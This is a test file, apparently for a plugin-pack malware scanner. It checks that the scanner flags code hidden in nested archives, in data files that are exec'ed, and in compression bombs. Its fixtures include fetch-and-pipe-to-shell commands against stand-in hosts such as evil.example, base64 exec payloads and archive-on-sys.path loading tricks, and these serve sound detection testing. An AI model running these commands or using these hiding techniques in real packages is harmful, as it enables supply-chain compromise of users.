import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { buildZip, withBadCrc } from '#test/zip.ts';
import { scanPack, DEFAULT_SCAN_LIMITS } from './scan-pack.ts';
import { RULES } from './rules.ts';

// Code hidden from a review of the pack's .py files: in a bundled archive put on sys.path, in a data
// file that is exec'ed or run. Each case is a small crafted pack with a near miss that must stay quiet.

const encode = (text: string) => new TextEncoder().encode(text);
type Files = Record<string, string | Uint8Array>;

async function scan(files: Files, limits = DEFAULT_SCAN_LIMITS) {
  const pack = {
    files: Object.entries(files).map(([path, content]) => ({
      path,
      bytes: typeof content === 'string' ? encode(content) : content,
    })),
    skipped: [],
  };
  return scanPack(pack, limits);
}
const findingsOf = async (files: Files) => (await scan(files)).findings.map((f) => [f.ruleId, f.file, f.severity]);
const ids = async (files: Files) => (await scan(files)).findings.map((f) => f.ruleId);

/** A minimal ustar archive (what `tar cf` writes for plain files). */
function tar(files: Record<string, string>): Uint8Array {
  const blocks: Uint8Array[] = [];
  for (const [name, content] of Object.entries(files)) {
    const body = encode(content);
    const header = new Uint8Array(512);
    header.set(encode(name), 0);
    header.set(encode('0000644\0'), 100);
    header.set(encode(`${body.length.toString(8).padStart(11, '0')}\0`), 124);
    header.set(encode('        '), 148);
    header[156] = 0x30;
    header.set(encode('ustar\x0000'), 257);
    const sum = header.reduce((total, byte) => total + byte, 0);
    header.set(encode(`${sum.toString(8).padStart(6, '0')}\0 `), 148);
    const padded = new Uint8Array(Math.ceil(body.length / 512) * 512);
    padded.set(body);
    blocks.push(header, padded);
  }
  blocks.push(new Uint8Array(1024));
  return Uint8Array.from(blocks.flatMap((block) => [...block]));
}

const PAYLOAD =
  'import base64, subprocess\n' +
  'subprocess.Popen("curl -s https://evil.example/x.sh | sh", shell=True)\n' +
  'exec(base64.b64decode("aW1wb3J0IG9z"))\n';

/** Case (a) of issue 14: lib.zip on sys.path, the payload imported from it. */
const LIB_ZIP_PACK: Files = {
  '__init__.py':
    'import os, sys\nhere = os.path.dirname(__file__)\nsys.path.insert(0, os.path.join(here, "lib.zip"))\n' +
    'import payload  # noqa\nNODE_CLASS_MAPPINGS = {}\n',
  'lib.zip': buildZip({ 'payload.py': PAYLOAD }),
};

/** Case (b) of issue 14: the payload in a text file, exec'ed. */
const DATA_TXT_PACK: Files = {
  '__init__.py': 'exec(open(__file__.replace("__init__.py", "data.txt")).read())\nNODE_CLASS_MAPPINGS = {}\n',
  'data.txt': PAYLOAD,
};

describe('code hidden in bundled archives', () => {
  it('case (a): flags sys.path pointing into lib.zip and the payload inside it', async () => {
    expect(await findingsOf(LIB_ZIP_PACK)).toEqual(
      expect.arrayContaining([
        [RULES.archiveOnPath.id, '__init__.py', 'high'],
        [RULES.shellDownloadPiped.id, 'lib.zip!/payload.py', 'critical'],
        [RULES.obfuscatedExec.id, 'lib.zip!/payload.py', 'critical'],
      ]),
    );
  });

  it.each([
    ['sys.path.append("vendor/deps.whl")'],
    ['from sys import path\npath.insert(0, "x.egg")'],
    ['import sys\np = sys.path\np.append("bundle.pyz")'],
    ['import sys\nsys.path += ["lib.zip"]'],
    ['import sys\nsys.path[0:0] = [LIB]\nLIB = "lib.zip"'],
    ['import site\nsite.addsitedir("plugins.zip")'],
    ['import zipimport\nzipimport.zipimporter(p).load_module("x")'],
    ['import runpy\nrunpy.run_path("tool.pyz")'],
  ])('PY012 flags %s', async (code) => {
    expect(await ids({ 'nodes.py': `import sys\n${code}\n` })).toContain(RULES.archiveOnPath.id);
  });

  it('PY012 also sees an archive disguised under another name (zipimport reads any zip)', async () => {
    const files = {
      'nodes.py': 'import sys, os\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "cache.dat"))\n',
      'cache.dat': buildZip({ 'helper.py': 'x = 1\n' }),
    };
    expect(await ids(files)).toContain(RULES.archiveOnPath.id);
    // The same line naming a plain data file is not a finding.
    expect(await ids({ ...files, 'cache.dat': 'just text' })).not.toContain(RULES.archiveOnPath.id);
  });

  it('PY012 stays quiet on ordinary sys.path use and list appends', async () => {
    const code =
      'import os, sys\nhere = os.path.dirname(os.path.realpath(__file__))\nsys.path.insert(0, here)\n' +
      'sys.path.append(os.path.join(here, "modules"))\nnames = []\nnames.append("lib.zip")\n';
    expect(await ids({ 'nodes.py': code })).toEqual([]);
  });

  it('scans inside nested zip, wheel, egg, tar and tar.gz files', async () => {
    const evil = 'import os\nos.system("curl https://x.example/a | bash")\n';
    const findings = await findingsOf({
      'a.whl': buildZip({ 'pkg/__init__.py': evil }),
      'b.egg': buildZip({ 'EGG-INFO/PKG-INFO': 'x', 'mod.py': evil }),
      'c.tar': tar({ 'src/m.py': evil }),
      'd.tar.gz': gzipSync(tar({ 'm.py': evil })),
      'e.zip': buildZip({ 'inner.zip': buildZip({ 'deep.py': evil }) }),
    });
    expect(findings.filter(([id]) => id === RULES.shellDownloadPiped.id).map(([, file]) => file)).toEqual([
      'a.whl!/pkg/__init__.py',
      'b.egg!/mod.py',
      'c.tar!/src/m.py',
      'd.tar.gz!/m.py',
      'e.zip!/inner.zip!/deep.py',
    ]);
  });

  it('a nested zip holding only data files is not a finding', async () => {
    const report = await scan({
      'nodes.py': 'import zipfile\nwith zipfile.ZipFile("assets.zip") as z:\n    print(z.namelist())\n',
      'assets.zip': buildZip({ 'palette.json': '{"red": [255, 0, 0]}', 'README.md': '# assets\n' }),
      'examples.tar.gz': gzipSync(tar({ 'workflow.json': '{}' })),
    });
    expect(report.findings).toEqual([]);
    expect(report.filesScanned).toBe(1);
  });

  it('holds for review what it cannot unpack: too deep, over budget, truncated, unknown format', async () => {
    const deep = buildZip({ 'l2.zip': buildZip({ 'l3.zip': buildZip({ 'l4.zip': buildZip({ 'x.py': 'x = 1' }) }) }) });
    const limits = { ...DEFAULT_SCAN_LIMITS, nested: { ...DEFAULT_SCAN_LIMITS.nested, maxBytes: 2000 } };
    const report = await scan(
      {
        'deep.zip': deep,
        'big.zip': buildZip({ 'blob.py': `X = "${'a1B2'.repeat(1000)}"\n` }),
        'broken.zip': buildZip({ 'a.py': 'x = 1\n' }).subarray(0, 60),
        'data.tar.xz': Uint8Array.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00, 1, 2, 3]),
      },
      limits,
    );
    const notScanned = report.findings.filter((f) => f.ruleId === RULES.notScanned.id);
    expect(notScanned.map((f) => [f.file, f.severity])).toEqual(
      expect.arrayContaining([
        ['deep.zip!/l2.zip!/l3.zip!/l4.zip', 'high'],
        ['big.zip!/blob.py', 'high'],
        ['data.tar.xz', 'high'],
      ]),
    );
    expect(notScanned.find((f) => f.file === 'deep.zip!/l2.zip!/l3.zip!/l4.zip')!.message).toMatch(
      /nested more than 3/,
    );
    expect(notScanned.find((f) => f.file === 'big.zip!/blob.py')!.message).toMatch(/size budget/);
    expect(notScanned.find((f) => f.file === 'data.tar.xz')!.message).toMatch(/cannot open: xz/);
    expect(notScanned.find((f) => f.file === 'broken.zip')!.message).toMatch(/could not be read/);
  });

  it('reports a nested zip with a broken structure as a whole, and a corrupt entry on its own', async () => {
    const zip = buildZip({ 'a.py': 'x = 1\n' });
    const corrupt = new Uint8Array(zip);
    corrupt.fill(0, 0, 30); // wipe the local header, keep the central directory
    const broken = await scan({ 'lib.zip': corrupt });
    expect(broken.findings.map((f) => [f.ruleId, f.file])).toEqual([[RULES.notScanned.id, 'lib.zip']]);
    const badEntry = await scan({ 'lib.zip': withBadCrc(zip, 'a.py') });
    expect(badEntry.findings.map((f) => [f.ruleId, f.file])).toEqual([[RULES.notScanned.id, 'lib.zip!/a.py']]);
  });

  it('refuses a zip bomb inside the pack without inflating it (PY077), and a gzip one', async () => {
    const zeros = new Uint8Array(8 * 1024 * 1024);
    const bomb = buildZip({ 'zeros.bin': zeros });
    expect(bomb.length).toBeLessThan(20_000);
    const report = await scan({ 'assets/textures.zip': bomb, 'cache.gz': gzipSync(zeros) });
    expect(report.findings.map((f) => [f.ruleId, f.file, f.severity])).toEqual([
      [RULES.compressionBomb.id, 'assets/textures.zip!/zeros.bin', 'high'],
      [RULES.compressionBomb.id, 'cache.gz', 'high'],
    ]);
    expect(report.findings[0]!.message).toMatch(/zip bomb.*inflates \d+ times its compressed size/);
  });

  it('refuses a nested zip whose entries are each small but add up to a bomb', async () => {
    const entries = Object.fromEntries(Array.from({ length: 20 }, (_, i) => [`z${i}.bin`, new Uint8Array(600_000)]));
    const report = await scan({ 'many.zip': buildZip(entries) });
    expect(report.findings.map((f) => [f.ruleId, f.file])).toEqual([[RULES.compressionBomb.id, 'many.zip']]);
  });
});

describe('code hidden in data files', () => {
  it('case (b): flags exec(open("data.txt").read()) as high', async () => {
    expect(await findingsOf(DATA_TXT_PACK)).toEqual([[RULES.execFileContents.id, '__init__.py', 'high']]);
  });

  it.each([
    ['exec(open("data.txt").read())'],
    ['from pathlib import Path\nexec(Path(__file__).with_name("x.txt").read_text())'],
    ['import pkgutil\nexec(pkgutil.get_data(__name__, "p.bin"))'],
    ['with open("p.txt") as f:\n    code = f.read()\nexec(compile(code, "p", "exec"))'],
    ['import io\neval(io.open("expr.txt").read())'],
    ['import importlib.resources\nexec(importlib.resources.read_text("pkg", "x.txt"))'],
    ['import runpy\nrunpy.run_path("payload.txt")'],
    ['import importlib.util\nspec = importlib.util.spec_from_file_location("m", "helper.dat")'],
  ])('PY004 flags %s', async (code) => {
    expect(await ids({ 'nodes.py': `${code}\n` })).toContain(RULES.execFileContents.id);
  });

  it.each([
    ['print(open("README.md").read())'],
    ['exec("print(1)")'],
    ['text = open("prompt.txt").read()\nresult = model.generate(text)'],
    ['import importlib.util\nspec = importlib.util.spec_from_file_location("m", os.path.join(d, "nodes.py"))'],
    ['import runpy\nrunpy.run_path(os.path.join(here, "install.py"))'],
    ['import json\nconfig = json.loads(open("config.json").read())'],
  ])('PY004 stays quiet on %s', async (code) => {
    expect(await ids({ 'nodes.py': `import os\n${code}\n` })).not.toContain(RULES.execFileContents.id);
  });
});
